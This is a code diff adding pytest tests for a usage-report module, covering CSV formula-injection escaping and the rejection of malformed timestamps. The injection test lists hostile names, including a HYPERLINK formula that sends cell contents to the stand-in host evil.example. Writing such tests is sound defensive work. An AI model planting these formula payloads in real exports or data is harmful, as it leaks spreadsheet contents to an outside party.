@@ -279,3 +279,21 @@ def test_sql_sums_agree_with_the_python_report(ledger, period, by):
             assert f[m] == pytest.approx(s[m], abs=1e-4), (f, s)
     sums, _ = ledger.usage_split(since, until, period, by)
     assert sum(n for _, _, n, *_ in sums) > 50  # many sessions took the SQL path
+
+
+def test_csv_exports_never_carry_a_live_spreadsheet_formula():
+    """A user (or group, or profile) named like a formula stays text when the export is opened in a spreadsheet."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(A1:A9)", "-2+3", "@cmd", "\tx", "\r=1"]
+    rows = [{"user": name, "cpu_hours": -1.5, "sessions": 2} for name in hostile] + [{"user": "alice", "cpu_hours": 0}]
+    text = reports.to_csv(rows, ["user", "cpu_hours", "sessions"])
+    import csv as csv_module
+    import io as io_module
+    parsed = list(csv_module.DictReader(io_module.StringIO(text, newline="")))
+    assert [r["user"] for r in parsed] == ["'" + n for n in hostile] + ["alice"]
+    assert parsed[0]["cpu_hours"] == "-1.5"  # numbers are numbers, not text
+
+
+@pytest.mark.parametrize("text", ["yesterday", "2026-13-45", "2026-1", "2026-11-23T25:00"])
+def test_malformed_times_are_refused_by_the_parser(text):
+    with pytest.raises(ValueError):
+        reports.parse_when(text, T0)
